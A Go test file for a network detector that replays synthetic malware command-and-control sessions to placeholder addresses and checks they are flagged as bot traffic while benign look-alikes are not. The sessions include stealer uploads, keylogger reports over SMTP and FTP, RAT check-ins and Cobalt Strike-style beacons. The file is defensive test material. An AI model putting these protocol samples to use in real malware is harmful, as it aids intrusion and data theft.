package behaviour

import (
	"fmt"
	"strings"
	"testing"

	"firetower/internal/attack"
)

// lookUp is a query for a name and the answer that gives an address outside.
func (w *wire) lookUp(name string, server byte, at int64) {
	q := txtOrA(name, 1)
	a := "\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:] + "\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xc6\x33\x64" + string([]byte{server})
	w.udp(inner(5), inner(53), 53, at, q, a)
}

// windows is what a freshly started machine looks up by itself.
func (w *wire) windows() {
	for i, name := range []string{"www.msftconnecttest.com", "ctldl.windowsupdate.com", "settings-win.data.microsoft.com", "login.live.com", "ocsp.digicert.com"} {
		w.lookUp(name, byte(200+i), int64(i)*2_000)
	}
}

// botSandbox are minutes in a sandbox, after what analyses say of families.
var botSandbox = map[string]func(w *wire){
	"stealer that names itself in one word": func(w *wire) {
		w.ask(1, 0, 7, 80, "POST / HTTP/1.1\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded; charset=utf-8\r\nUser-Agent: record\r\nHost: 198.51.100.7\r\nContent-Length: 95\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\nmachineId=5f1b3c2a-1234|ann&configId=59c9737264c0b3209d9193b8ded6c127", fine)
	},
	"stealer's form": func(w *wire) {
		w.ask(2, 1000, 7, 80, "POST /e9c345fc99a4e67e.php HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=----AFHDHCAAKECFIDHIEBAK\r\nHost: 198.51.100.7\r\nContent-Length: 214\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\n------AFHDHCAAKECFIDHIEBAK\r\nContent-Disposition: form-data; name=\"hwid\"\r\n\r\n8A2B1C\r\n------AFHDHCAAKECFIDHIEBAK\r\nContent-Disposition: form-data; name=\"build\"\r\n\r\ndefault", fine)
	},
	"stealer over .NET's framing": func(w *wire) {
		w.windows()
		w.tcp(inner(5), outside(7), 33222, 20_000, up("\x00\x01\x00\x01\x02\x02\x1fnet.tcp://198.51.100.7:33222/\x03\x08\x0c"), down("\x0b"),
			up("\x06\xa1\x01\x56\x1chttp://tempuri.org/Entity/Id1net.tcp://198.51.100.7:33222/\x03Id1\x13http://tempuri.org/V\x02\x0b"), down("\x06\x71\x2dhttp://tempuri.org/Entity/Id1Response"))
	},
	"loader, pages of noise": func(w *wire) {
		w.windows()
		w.ask(6, 3000, 7, 80, "POST / HTTP/1.1\r\nConnection: Keep-Alive\r\nContent-Type: application/x-www-form-urlencoded\r\nAccept: */*\r\nReferer: http://wqvbnx.net/\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko\r\nContent-Length: 123\r\nHost: host-file-host6.com\r\n\r\n"+noise(1, 100), "HTTP/1.1 404 Not Found\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\nConnection: close\r\n\r\n"+noise(2, 100))
	},
	"loader of encrypted programs": func(w *wire) {
		w.windows()
		w.ask(1, 0, 7, 80, "GET /jvQuXz138.bin HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko\r\nHost: 198.51.100.7\r\nCache-Control: no-cache\r\n\r\n", "HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Length: 200000\r\nContent-Type: application/octet-stream\r\n\r\n"+noise(2, 900))
	},
	"script that reports under its agent's name": func(w *wire) {
		w.ask(3, 15_000, 7, 5478, "POST /is-ready HTTP/1.1\r\nAccept: */*\r\nuser-agent: WSHRAT|8A2B1C|PC|ann|Microsoft Windows 10 Pro|plus|nan-av|false - 21/6/2019|Visual Basic-v1.2\r\nAccept-Encoding: gzip, deflate\r\nHost: abc.example.com:5478\r\nContent-Length: 0\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\n", fine)
	},
	"key logger's report by mail": func(w *wire) {
		w.windows()
		w.tcp(inner(5), outside(7), 587, 30_000, down("220 mail ESMTP\r\n"), up("EHLO PC\r\n"), down("250-AUTH LOGIN\r\n250 OK\r\n"), up("AUTH login YUBiLmM=\r\n"), down("334 UGFzc3dvcmQ6\r\n"), up("eA==\r\n"), down("235 ok\r\n"), up("MAIL FROM:<a@b.c>\r\n"), down("250 OK\r\n"), up("RCPT TO:<a@b.c>\r\n"), down("250 OK\r\n"), up("DATA\r\n"), down("354 go\r\n"),
			up("MIME-Version: 1.0\r\nFrom: a@b.c\r\nTo: a@b.c\r\nDate: 1 Jan 2024 10:00:00 +0100\r\nSubject: PW_ann/PC\r\nContent-Type: text/html; charset=us-ascii\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nTime: 01/01/2024 10:00:00<br>User Name: ann<br>Computer Name: PC<br>OSFullName: Microsoft Windows 10 Pro<br>CPU: Intel(R) Core(TM) i5<br>RAM: 8191.49 MB<br>"), up("<hr>URL: https://a.b\r\n.\r\n"), down("250 OK\r\n"))
	},
	"key logger's report by FTP": func(w *wire) {
		w.windows()
		w.tcp(inner(5), outside(7), 21, 30_000, down("220 FTP\r\n"), up("USER a@b.c\r\n"), down("331 pw\r\n"), up("PASS x\r\n"), down("230 OK\r\n"), up("OPTS utf8 on\r\n"), down("200 OK\r\n"), up("PWD\r\n"), down("257 /\r\n"), up("TYPE I\r\n"), down("200 OK\r\n"), up("PASV\r\n"), down("227 Entering Passive Mode (198,51,100,7,200,10)\r\n"), up("STOR PW_ann-PC_2024_01_01_10_00_00.html\r\n"), down("150 OK\r\n"), down("226 OK\r\n"))
	},
	"remote access over TLS, dynamic name": func(w *wire) {
		w.windows()
		w.lookUp("abcrat.duckdns.org", 7, 12_000)
		w.tcp(inner(5), outside(7), 2404, 13_000, append([]line{hello("")}, said(500, 300)...)...)
	},
	"remote access over TLS, dynamic name, own certificate": func(w *wire) {
		w.windows()
		w.lookUp("abcrat.duckdns.org", 7, 12_000)
		w.tcp(inner(5), outside(7), 6606, 13_000, append([]line{hello(""), certified("AsyncRAT Server", "AsyncRAT Server")}, said(500, 300)...)...)
	},
	"remote access, encrypted, dynamic name": func(w *wire) {
		w.windows()
		w.lookUp("abcrat.ddns.net", 7, 12_000)
		lines := []line{up("\x40\x00\x00\x00" + noise(1, 64)), down("\x20\x00\x00\x00" + noise(2, 32)), up("\x08\x00\x00\x00" + noise(3, 8))}
		w.tcp(inner(5), outside(7), 54984, 13_000, lines...)
	},
	"remote access, counted messages": func(w *wire) {
		w.windows()
		lines := []line{up("192\x00" + noise(1, 192)), down("32\x00" + noise(2, 32))}
		w.tcp(inner(5), outside(7), 7000, 13_000, append(lines, kept(2, 8, 12_000, 0.2, func(i int) string { return "32\x00" + noise(int64(i), 32) }, func(i int) string { return "32\x00" + noise(int64(-i), 32) })...)...)
	},
	"remote access, fields between bars": func(w *wire) {
		w.windows()
		msg := "ping|STRRAT|1BE8292C|ann|Microsoft Windows 10 Pro|64-bit|Windows Defender|1.5|US:United States|Not Installed|Idle"
		w.tcp(inner(5), outside(7), 7888, 13_000, up(fmt.Sprintf("%d\n%s\n", len(msg), msg)), down("4\nping\n"))
	},
	"remote access, fields between marks": func(w *wire) {
		w.windows()
		w.tcp(inner(5), outside(7), 333, 13_000, up("Information*-]NK[-*R3Vlc3Q=*-]NK[-*_8A2B1C*-]NK[-*10.0.0.5*-]NK[-*UEMgLyBhbm4=*-]NK[-*No*-]NK[-*TWljcm9zb2Z0*-]NK[-*"), down("PNC*-]NK[-*"))
	},
	"dead controller of a dynamic name": func(w *wire) {
		w.windows()
		w.lookUp("abcrat.duckdns.org", 7, 12_000)
		for i := range 8 {
			w.refuse(inner(5), outside(7), 1604, 13_000+int64(i)*6_000)
		}
	},
	"dead controller, bare": func(w *wire) {
		w.windows()
		for i := range 14 {
			w.lost(inner(5), outside(7), 4782, 13_000+int64(i)*26_000)
		}
	},
	"banker's TLS to several addresses, made-up authorities": func(w *wire) {
		w.windows()
		for i, p := range []uint16{443, 995, 2222, 443} {
			w.tcp(inner(5), outside(byte(7+i)), p, 13_000+int64(i)*40_000, append([]line{hello(""), certified("kvevt.biz", "ndgnw.com")}, said(700, 900)...)...)
		}
	},
	"banker's TLS to several addresses, own certificates": func(w *wire) {
		w.windows()
		for i := range 3 {
			w.tcp(inner(5), outside(byte(7+i)), 443, 13_000+int64(i)*40_000, append([]line{hello(""), certified("example.com", "example.com")}, said(700, 900)...)...)
		}
	},
	"shell inside TLS, called by its address": func(w *wire) {
		w.windows()
		w.tcp(inner(5), outside(7), 8443, 13_000, obey([]line{hello("198.51.100.7"), serverHello, up(tls(23, "hello there"))}, 7)...)
	},
	"framework over TLS, four check-ins": func(w *wire) {
		w.windows()
		for i := range 4 {
			w.tcp(inner(5), outside(7), 443, 13_000+int64(i)*60_000, append([]line{hello(""), certified("Major Cobalt Strike", "Major Cobalt Strike")}, said(300, 120)...)...)
		}
	},
	"framework, one page": func(w *wire) {
		w.windows()
		for i := range 12 {
			w.tcp(inner(5), outside(7), 80, 13_000+int64(i)*5_300, up("GET /en-us/index.html?page=GET&v=1 HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36\r\nCookie: ASPSESSIONID=f1a2b3; SESSIONID=1552332971750\r\nHost: 198.51.100.7\r\n\r\n"), down("HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/10.0\r\nContent-Length: 300\r\n\r\n<html>"))
		}
	},
	"framework, posts": func(w *wire) {
		w.windows()
		for i := range 8 {
			w.tcp(inner(5), outside(7), 80, 13_000+int64(i)*10_300, up("POST /data HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko\r\nHost: 198.51.100.7\r\nContent-Length: 200\r\n\r\n"+strings.Repeat("QUJD", 50)), down("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n"+strings.Repeat("QUJD", 25)))
		}
	},
	"shell asked for over HTTP": func(w *wire) {
		w.windows()
		for i := range 60 {
			w.tcp(inner(5), outside(7), 8080, 13_000+int64(i)*900, up("GET /9f8e7d6c HTTP/1.1\r\nX-1a2b-3c4d: 5e6f7a8b-9c0d1e2f-3a4b5c6d\r\nUser-Agent: Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682\r\nHost: 198.51.100.7:8080\r\n\r\n"), down("HTTP/1.0 200 OK\r\nServer: Microsoft-IIS/10\r\nContent-type: text/javascript; charset=UTF-8\r\n\r\nNone"))
		}
	},
	"framework, scripts' host": func(w *wire) {
		w.windows()
		for i := range 6 {
			w.tcp(inner(5), outside(7), 9999, 13_000+int64(i)*8_300, up(fmt.Sprintf("POST /dF7xQ?sid=f6d3a1b2c3d4e5f6;csrf=%x; HTTP/1.1\r\nAccept: */*\r\nAccept-Language: en-us\r\nReferer: http://198.51.100.7:9999/dF7xQ?sid=f6d3\r\nContent-Type: application/octet-stream\r\nUA-CPU: AMD64\r\nUser-Agent: Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Win64; x64; Trident/6.0)\r\nHost: 198.51.100.7:9999\r\nContent-Length: 0\r\n\r\n", i)), down("HTTP/1.0 200 OK\r\nServer: Apache\r\n\r\n"))
		}
	},
}

// botLab are controllers in a laboratory, where all addresses are private.
var botLab = map[string]func(w *wire){
	"stage by its length, then talk": func(w *wire) {
		stage := []line{down(le4(60_000))}
		for i := range 60 {
			stage = append(stage, line{text: noise(int64(i), 1000), wait: 1})
		}
		w.tcp(inner(5), inner(9), 4444, 0, append(stage, kept(1, 12, 12_000, 0.9, random(1, 140), random(2, 90))...)...)
	},
	"framework's polls": func(w *wire) {
		for i := range 30 {
			w.tcp(inner(5), inner(9), 8080, int64(i)*4_100, up("GET /"+strings.Repeat("aB3xK", 20)+" HTTP/1.1\r\nAccept: */*\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko\r\nHost: 10.0.0.9:8080\r\n\r\n"), down("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"))
		}
	},
}

func TestBotLab(t *testing.T) {
	for name, play := range botLab {
		t.Run(name, func(t *testing.T) {
			var w wire
			play(&w)
			expect(t, w.findings(newBot(DefaultBotConfig())), attack.Bot, inner(5), "")
		})
	}
}

func TestBotSandbox(t *testing.T) {
	for name, play := range botSandbox {
		t.Run(name, func(t *testing.T) {
			var w wire
			play(&w)
			expect(t, w.findings(newBot(DefaultBotConfig())), attack.Bot, inner(5), "")
		})
	}
}

// obey is a shell inside TLS: orders of the other side, answered at length.
func obey(lines []line, orders int) []line {
	for i := range orders {
		lines = append(lines, down(tls(23, strings.Repeat("o", 30))).after(3_500), up(tls(23, strings.Repeat("a", 900+i*70))))
	}
	return lines
}

// botQuiet are programs of people's that share a sign with those above.
var botQuiet = map[string]func(w *wire){
	"gateway of a company at a bare address": func(w *wire) {
		w.windows()
		w.tcp(inner(5), outside(7), 4287, 13_000, append([]line{hello(""), certified("vpn.corp", "vpn.corp")}, said(900, 3000)...)...)
	},
	"appliance's pages at a bare address": func(w *wire) {
		w.windows()
		for i := range 5 {
			w.tcp(inner(5), outside(7), 8443, 13_000+int64(i*i)*2_000, append([]line{hello(""), certified("appliance", "appliance")}, said(700, 40_000)...)...)
		}
	},
	"names over TLS from a resolver at an address": func(w *wire) {
		w.windows()
		for i := range 6 {
			w.tcp(inner(5), outside(8), 443, 13_000+int64(i*i)*3_000, append([]line{hello(""), certified("DigiCert Global CA", "resolver.example")}, said(300, 500)...)...)
		}
	},
	"devices of one maker, own authority, with names": func(w *wire) {
		w.windows()
		for i := range 4 {
			w.tcp(inner(5), outside(byte(7+i)), 443, 13_000+int64(i*i)*9_000, append([]line{hello("eu.devices.example"), certified("Maker Device CA", "eu.devices.example")}, said(300, 500)...)...)
		}
	},
	"friend's game at a dynamic name": func(w *wire) {
		w.lookUp("ourgame.ddns.net", 7, 0)
		w.tcp(inner(5), outside(7), 25565, 1_000, append([]line{up(noise(1, 40)), down(noise(2, 900))}, kept(1, 30, 3_000, 0.5, random(3, 60), random(4, 700))...)...)
	},
	"web page at a dynamic name": func(w *wire) {
		w.lookUp("mycam.dyndns.org", 7, 0)
		w.ask(20, 9_000, 7, 8081, browse("/view.html").text, answer("200 OK").text)
	},
	"peer that is gone, of a program with a list": func(w *wire) {
		w.windows()
		for i := range 8 {
			w.lost(inner(5), outside(9), 51413, 13_000+int64(i)*26_000)
		}
	},
	"report on a machine asked for by mail": func(w *wire) {
		w.tcp(inner(5), outside(7), 587, 0, down("220 mail ESMTP\r\n"), up("EHLO pc\r\n"), down("250 OK\r\n"), up("DATA\r\n"), down("354 go\r\n"),
			up("From: ann@example.org\r\nSubject: my PC is slow\r\n\r\nHello, it has 8 GB of RAM: is that too little?\r\n.\r\n"), down("250 OK\r\n"))
	},
	"files put on a web site": func(w *wire) {
		w.tcp(inner(5), outside(7), 21, 0, down("220 FTP\r\n"), up("USER a\r\n"), down("331 pw\r\n"), up("PASS x\r\n"), down("230 OK\r\n"), up("STOR co_report-2024.html\r\n"), down("150 OK\r\n"), up("STOR sc_header.png\r\n"), down("150 OK\r\n"))
	},
	"library that reads a stream of numbers": func(w *wire) {
		w.tcp(inner(5), outside(7), 7497, 0, up("API\x00\x00\x00\x00\x09v100..151"), down("151\x0020240101 10:00:00\x00"), up("71\x002\x000\x00"), down("15\x001\x00DU123\x00"))
	},
	"film in encrypted pieces from an address": func(w *wire) {
		w.ask(6, 4_000, 7, 80, "GET /seg/00012.ts HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: VLC/3.0.18 LibVLC/3.0.18\r\n\r\n", "HTTP/1.1 200 OK\r\nServer: x\r\nContent-Type: application/octet-stream\r\nContent-Length: 900000\r\n\r\n"+noise(2, 900))
	},
	"news pushed over TLS to an address": func(w *wire) {
		w.windows()
		lines := []line{hello(""), serverHello, up(tls(23, strings.Repeat("s", 300)))}
		for i := range 12 {
			lines = append(lines, down(tls(23, strings.Repeat("n", 60+i))).after(3_500+int64(i*i*90)), up(tls(23, strings.Repeat("k", 30))))
		}
		w.tcp(inner(5), outside(8), 443, 13_000, lines...)
	},
	"client that does not like a certificate": func(w *wire) {
		for i := range 18 {
			w.tcp(inner(5), outside(7), 443, int64(i)*10_000, hello("www.example.org"), certified("House CA", "www.example.org"), up(tls(21, "\x02\x30")))
		}
	},
	"packed page": func(w *wire) {
		w.ask(3, 9_000, 7, 80, browse("/a.html").text, "HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Encoding: br\r\n\r\n"+noise(3, 300))
	},
	"weather station": func(w *wire) {
		for i := range 20 {
			w.tcp(inner(5), outside(7), 80, int64(i)*16_000, up(fmt.Sprintf("GET /weatherstation/update.php?ID=KX1&tempf=5%d.4&humidity=71&windspeedmph=3.%d&baromin=29.91 HTTP/1.0\r\nHost: 198.51.100.7\r\n\r\n", i%9, i%7)), down("HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nsuccess\n"))
		}
	},
	"monitor that reads mail servers' greetings": func(w *wire) {
		for i := range 60 {
			w.tcp(inner(5), v4(198, 51, byte(i%30), 25), 25, int64(i)*400, down("220 mx ESMTP\r\n"))
		}
	},
	"monitor of several hosts inside": func(w *wire) {
		for i := range 40 {
			for j := range 3 {
				w.tcp(inner(5), inner(byte(60+j)), 8081, int64(i)*5_000+int64(j)*10, up("GET /status HTTP/1.1\r\nHost: 10.0.0.60:8081\r\n\r\n"), answer("200 OK"))
			}
		}
	},
}

func TestBotQuiet(t *testing.T) {
	for name, play := range botQuiet {
		t.Run(name, func(t *testing.T) {
			var w wire
			play(&w)
			expect(t, w.findings(newBot(DefaultBotConfig())), attack.Benign, inner(5), "")
		})
	}
}
